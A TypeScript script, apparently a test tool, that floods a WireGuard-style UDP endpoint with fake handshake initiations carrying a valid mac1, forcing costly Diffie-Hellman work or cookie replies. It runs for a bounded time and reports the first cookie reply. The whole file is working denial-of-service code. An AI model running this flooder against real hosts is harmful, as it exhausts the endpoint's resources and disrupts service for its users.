/**
 * Sends initiations that only look right: random bytes with a right mac1, which anybody can make who
 * knows the receiver's public key (WP 5.4.4). A receiver has to do a Diffie-Hellman for each, or to
 * ask for a cookie.
 *
 *     node flood.js ADDRESS PORT PUBLIC_KEY BURST
 *
 * A burst every 400 ms, until stdin ends, at most for 40 s. Prints `cookie` at the first cookie
 * reply.
 */
import { blake2s } from '@noble/hashes/blake2.js';
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { isIPv6 } from 'node:net';

const INITIATION_BYTES = 148;
const MAC1_OFFSET = 116;
const MAC_BYTES = 16;
const COOKIE_REPLY_TYPE = 3;
const COOKIE_REPLY_BYTES = 64;
const INTERVAL_MS = 400;
const LIMIT_MS = 40_000;
/** Datagrams that are all different, so that no receiver may remember one. */
const VARIANTS = 64;

async function main(): Promise<void> {
  const [address = '', port = '', key = '', burst = ''] = process.argv.slice(2);
  const variants = Array.from({ length: VARIANTS }, () => initiation(Buffer.from(key, 'base64')));
  const socket = createSocket(isIPv6(address) ? 'udp6' : 'udp4');
  // A refused datagram is an answer too, and no reason to stop.
  socket.on('error', () => undefined);
  socket.connect(Number(port), address);
  await once(socket, 'connect');
  reportCookie(socket);
  const timer = setInterval(() => {
    for (let sent = 0; sent < Number(burst); sent++) socket.send(variants[sent % VARIANTS]);
  }, INTERVAL_MS);
  const end = (): void => {
    clearInterval(timer);
    process.exit(0);
  };
  setTimeout(end, LIMIT_MS);
  process.stdin.once('end', end).resume();
  process.stdout.write('flooding\n');
}

function reportCookie(socket: Socket): void {
  const look = (message: Uint8Array): void => {
    if (message[0] !== COOKIE_REPLY_TYPE || message.length !== COOKIE_REPLY_BYTES) return;
    process.stdout.write('cookie\n');
    socket.off('message', look);
  };
  socket.on('message', look);
}

function initiation(publicKey: Uint8Array): Uint8Array {
  const message = new Uint8Array(INITIATION_BYTES);
  message.set(randomBytes(MAC1_OFFSET));
  message.set([1, 0, 0, 0]);
  const label = new TextEncoder().encode('mac1----');
  const macKey = blake2s.create({ dkLen: 32 }).update(label).update(publicKey).digest();
  const covered = message.subarray(0, MAC1_OFFSET);
  message.set(blake2s(covered, { key: macKey, dkLen: MAC_BYTES }), MAC1_OFFSET);
  return message;
}

void main();
